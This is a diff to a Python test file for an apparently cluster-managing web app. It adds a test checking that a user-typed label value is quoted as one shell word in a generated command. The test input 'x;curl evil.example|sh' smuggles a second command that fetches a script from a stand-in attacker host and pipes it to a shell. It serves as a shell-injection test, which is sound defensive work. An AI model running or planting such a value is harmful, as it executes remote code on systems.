@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import re
+import shlex
 from collections.abc import Mapping
 from datetime import timedelta
 from typing import Any
@@ -335,3 +336,8 @@ def test_page_and_job_lead_back_to_the_filtered_list_of_clusters_also_after_an_u
     assert BulkJob.objects.get().query == asked
     long = li.post("/clusters/_select/", {**told, "query": "q=" + "x" * 3_000}, follow=True)
     assert 'href="/clusters/"' in long.content.decode()
+
+
+def test_what_was_typed_is_one_word_of_the_command() -> None:
+    (command,) = bulk_acts._label_commands(make.ADMIN, ["c1"], {"key": "team", "value": "x;curl evil.example|sh"})
+    assert shlex.split(command)[-1] == "team=x;curl evil.example|sh"
